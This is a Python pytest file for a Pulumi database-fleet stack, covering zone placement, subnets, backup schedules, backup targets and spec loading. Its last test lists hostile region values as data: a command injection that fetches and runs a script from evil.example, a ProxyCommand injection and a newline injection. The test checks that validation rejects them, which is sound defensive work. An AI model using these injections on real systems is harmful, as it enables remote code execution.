"""The stack's pure planning: zone placement, backup targets and lifecycle ages, and the program's entry point."""

from __future__ import annotations

import runpy
from pathlib import Path
from typing import Any

import pulumi
import pytest
from pulumi_mocks import REPO, RecordingMocks, fleet_variant

from components.backups import plan_backup_targets, standalone_interval_days
from components.errors import StackError
from components.network import subnet_cidrs
from components.placement import assign_zones, fleet_spread_groups
from dbfleet.spec import BackupPolicy, Fleet, Host, SpecError


def test_unpinned_members_take_distinct_zones_and_pins_are_kept() -> None:
    group = [Host(name="db-a"), Host(name="db-b", zone=0), Host(name="db-c")]
    assert assign_zones([group]) == {"db-a": 1, "db-b": 0, "db-c": 2}


def test_each_group_is_placed_on_its_own() -> None:
    shard = [Host(name="shard-1"), Host(name="shard-2"), Host(name="shard-3")]
    alone = assign_zones([shard])
    assert sorted(alone.values()) == [0, 1, 2]
    assert {h: z for h, z in assign_zones([[Host(name="pg-1")], shard]).items() if h in alone} == alone


def test_a_zone_outside_the_stack_is_refused() -> None:
    with pytest.raises(StackError, match="host pg-1: zone 4 is outside the stack's 3 availability zones"):
        assign_zones([[Host(name="pg-1", zone=4)]])


def test_placement_is_stable_and_places_every_host(example_fleet: Fleet) -> None:
    first = assign_zones(fleet_spread_groups(example_fleet))
    assert first == assign_zones(fleet_spread_groups(example_fleet))
    assert len(first) == 14 and set(first.values()) == {0, 1, 2}


def test_subnets_are_disjoint_and_inside_the_vpc() -> None:
    private, public = subnet_cidrs("10.40.0.0/20")
    assert private == ["10.40.0.0/24", "10.40.1.0/24", "10.40.2.0/24"]
    assert public == ["10.40.3.0/24", "10.40.4.0/24", "10.40.5.0/24"]


@pytest.mark.parametrize(("schedule", "days"), [
    ({"full": "0 2 * * 0", "diff": "0 2 * * 1-6"}, 7),
    ({"full": "0 3 1 * *"}, 31),
    ({"snapshot": "15 * * * *"}, 1),
    ({"full": "0 1,23 * * 0", "snapshot": "0 12 * * 3"}, 4),
    ({"diff": "0 2 * * *"}, 400),
])
def test_the_full_backup_interval_comes_from_the_schedule(schedule: dict[str, str], days: int) -> None:
    assert standalone_interval_days(BackupPolicy(schedule=schedule)) == days


def test_backup_targets_outside_the_fleet_region_are_refused() -> None:
    def other_region(data: dict[str, Any]) -> None:
        data["clusters"][2]["backup"]["target"] = {"kind": "s3", "bucket": "cache-bk", "region": "eu-west-1"}

    with pytest.raises(StackError, match="cluster cache: backup.target.region eu-west-1 differs from fleet.region"):
        plan_backup_targets(fleet_variant(other_region))


def test_clusters_sharing_a_bucket_need_disjoint_prefixes() -> None:
    def shared(data: dict[str, Any]) -> None:
        data["clusters"][0]["backup"]["target"] = {"kind": "s3", "bucket": "shared-bk", "prefix": "db"}
        data["clusters"][2]["backup"]["target"] = {"kind": "s3", "bucket": "shared-bk", "prefix": "db/cache"}

    with pytest.raises(StackError, match="clusters pg-main and cache share bucket shared-bk"):
        plan_backup_targets(fleet_variant(shared))


def test_external_endpoints_and_disabled_backups_get_no_bucket() -> None:
    def change(data: dict[str, Any]) -> None:
        data["clusters"][0]["backup"]["target"] = {"kind": "s3", "bucket": "minio-bk", "endpoint": "https://minio:9000"}
        data["clusters"][2]["backup"]["enabled"] = False
        data["clusters"][2].pop("dr")  # dr needs backups to copy

    assert set(plan_backup_targets(fleet_variant(change))) == {"mongo-main"}


def _run_main(spec: Path) -> RecordingMocks:
    mocks = RecordingMocks()
    pulumi.runtime.set_mocks(mocks, project="dbfleet", stack="test", preview=False)
    pulumi.runtime.set_all_config({"dbfleet:spec": str(spec)})

    @pulumi.runtime.test
    def program() -> None:
        runpy.run_path(str(REPO / "stacks" / "__main__.py"), run_name="__main__")

    try:
        program()
    finally:
        pulumi.runtime.set_all_config({})
    return mocks


def test_the_program_reads_the_spec_named_in_config() -> None:
    mocks = _run_main(REPO / "fleet.example.yaml")
    # The example's 14 hosts in its region and its standby site's one (pg-dr-1) in us-west-2.
    assert sum(r.type == "aws:ec2/instance:Instance" for r in mocks.resources) == 15


def test_a_bad_spec_fails_with_the_located_spec_error(tmp_path: Path) -> None:
    bad = tmp_path / "fleet.yaml"
    bad.write_text((REPO / "fleet.example.yaml").read_text().replace("replicas: 2\n", "replicas: 5\n", 1))
    with pytest.raises(SpecError, match=r"fleet.yaml:\d+: clusters.0.replicas: 5 replicas need 6 hosts"):
        _run_main(bad)


@pytest.mark.parametrize("region", ["us-east-1; curl -s https://evil.example/x | sh", 'us-east-1" -o ProxyCommand="sh',
                                    "us-east-1\nrepo1-host=evil.example"])
def test_a_fleet_region_that_is_not_an_aws_region_never_reaches_a_boot_script_or_proxy_command(region: str) -> None:
    def hostile(data: dict[str, Any]) -> None:
        data["fleet"]["region"] = region

    with pytest.raises(SpecError, match=r"variant.yaml:\d+: fleet.region: expected an AWS region"):
        fleet_variant(hostile)
